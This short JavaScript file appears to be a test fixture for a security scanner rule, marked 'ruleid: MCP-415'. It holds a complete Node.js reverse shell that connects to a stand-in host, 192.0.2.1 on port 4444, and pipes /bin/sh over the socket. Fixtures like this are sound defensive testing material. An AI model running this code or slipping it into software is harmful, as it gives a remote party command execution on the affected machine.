import net from "node:net";
import { spawn } from "node:child_process";

const socket = net.connect(4444, "192.0.2.1");
const shell = spawn("/bin/sh", []);
// ruleid: MCP-415
socket.pipe(shell.stdin);
shell.stdout.pipe(socket);
